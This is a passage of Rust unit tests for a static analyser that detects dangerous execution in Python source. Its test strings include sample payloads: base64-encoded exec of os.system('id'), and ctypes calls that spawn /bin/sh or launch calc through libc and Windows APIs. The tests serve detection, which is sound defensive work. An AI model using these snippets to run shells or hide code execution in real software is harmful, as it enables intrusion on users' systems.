        vec![("exec", 3), ("exec", 4), ("os.system", 5)],
        "{:?}",
        found.sites
    );
    assert!(
        found.sites[0].detail.contains("code_eval_steps"),
        "{:?}",
        found.sites[0]
    );
    // The wall clock, checked every few thousand steps, stops the evaluation too.
    let late = Limits {
        eval: crate::code::python::budget::Limits {
            max_millis: 0,
            ..crate::code::python::budget::Limits::default()
        },
        ..Limits::default()
    };
    let chain = vec!["'a'"; 10_000].join("+");
    std::thread::sleep(std::time::Duration::from_millis(2));
    let found = analyze(&format!("import os\nos.system({chain})\n"), &late);
    assert_eq!(found.truncated_by, Some("eval-timeout"));
    assert_eq!(found.sites.len(), 1);
    // Decoding and the payloads analysed again share the file's bytes.
    let bytes = Limits {
        eval: crate::code::python::budget::Limits {
            max_bytes: 64,
            ..crate::code::python::budget::Limits::default()
        },
        ..Limits::default()
    };
    let blob = base64_encode("import os\nos.system('id')\n".repeat(10).as_bytes());
    let found = analyze(
        &format!("import base64\nexec(base64.b64decode('{blob}'))\n"),
        &bytes,
    );
    assert_eq!(found.limit_hit, Some("code_eval_bytes"));
    assert!(
        found
            .sites
            .iter()
            .any(|s| s.call == "exec" && s.severity == Severity::Critical),
        "{:?}",
        found.sites
    );
}

/// Issue 39: every way to reach a C function through ctypes hands the library to the symbol
/// table: subscript and `getattr` on a loader (the library name keeps its dots), `LoadLibrary`,
/// `CDLL(None)`, `PyDLL`, the Windows loaders, and the C API through any handle.
#[test]
fn every_way_to_reach_a_c_function_is_judged_issue_39() {
    let process = [
        "import ctypes\nctypes.cdll['libc.so.6'].system(b'id')\n",
        "import ctypes\ngetattr(ctypes.cdll, 'libc.so.6').system(b'id')\n",
        "import ctypes\nlibc = ctypes.cdll['libc.so.6']\nlibc['system'](b'id')\n",
        "import ctypes\nctypes.CDLL(None).system(b'id')\n",
        "import ctypes\nctypes.PyDLL('libc.so.6').execv(b'/bin/sh', None)\n",
        "import ctypes\nctypes.WinDLL('kernel32').WinExec(b'calc', 0)\n",
        "import ctypes\nctypes.oledll.shell32.ShellExecuteW(None, 'open', 'calc', None, None, 1)\n",
        "import ctypes\nctypes.windll['kernel32.dll'].CreateProcessW(None, 'calc', None, None, 0, 0, None, None, None, None)\n",
        "from ctypes import cdll\ncdll.LoadLibrary(None).posix_spawn(None, b'/bin/sh', None, None, None, None)\n",
    ];
    for src in process {
        assert_eq!(
            worst(src, Capability::ProcessExecution),
            Some(Severity::Critical),
            "{src}: {:?}",
            sites(src)
        );
    }
    // The interpreter's own C API through a handle other than `pythonapi`.
    for src in [
        "import ctypes\nctypes.PyDLL(None).PyRun_SimpleString(b'import os')\n",
        "import ctypes\nctypes.pydll.python3.PyRun_SimpleString(b'import os')\n",
        "import ctypes\ngetattr(ctypes.pythonapi, 'PyRun_SimpleString')(b'import os')\n",
    ] {
        assert!(
            worst(src, Capability::DynamicCode).is_some(),
            "{src}: {:?}",
            sites(src)
        );
    }
    // A library loaded by subscript is still a load, and an ordinary function stays one.
    let src = "import ctypes\nctypes.cdll['libgomp.so.1'].omp_get_max_threads()\n";
    assert_eq!(worst(src, Capability::ProcessExecution), None, "{src}");
}

#[test]
fn the_deepest_evaluation_the_table_allows_fits_a_worker_stack() {
    // Rayon's workers have the standard 2 MiB stacks; the largest `code_eval_depth` a policy
    // may set must fit one, in a debug build too, through every recursion of the evaluator.
    let max = crate::model::limits::limit_spec("code_eval_depth").map_or(0, |s| s.max);
    let limits = Limits {
        eval: crate::code::python::budget::Limits {
            max_depth: usize::try_from(max).unwrap_or(usize::MAX),
            ..crate::code::python::budget::Limits::default()
        },
        ..Limits::default()
    };
    let sources = [
        format!("exec({}'x'{})\n", "'a'+(".repeat(1_000), ")".repeat(1_000)),
        format!(
            "exec({}'x'{})\n",
            "''.join([".repeat(1_000),
            "])".repeat(1_000)
        ),
        format!(
            "exec({}'x'{})\n",
            "'{}'.format(".repeat(1_000),
            ")".repeat(1_000)
        ),
        format!("exec({}'x'{})\n", "f'{{".repeat(200), "}}'".repeat(200)),
        format!(
            "import base64\nexec({}'eA=='{})\n",
            "base64.b64decode(".repeat(1_000),
            ")".repeat(1_000)
        ),
        format!(
            "import os\n{}os.system(n999)\n",
            (0..1_000)
                .map(|i| format!("n{i} = getattr(n{}, 'x').strip()\n", i + 1))
                .collect::<String>()
        ),
    ];
    for src in sources {
        let limits = limits.clone();
        let found = std::thread::Builder::new()
            .stack_size(2 << 20)
            .spawn(move || analyze(&src, &limits))
            .expect("thread")
            .join()
            .expect("no overflow");
        assert!(!found.sites.is_empty());
    }
}
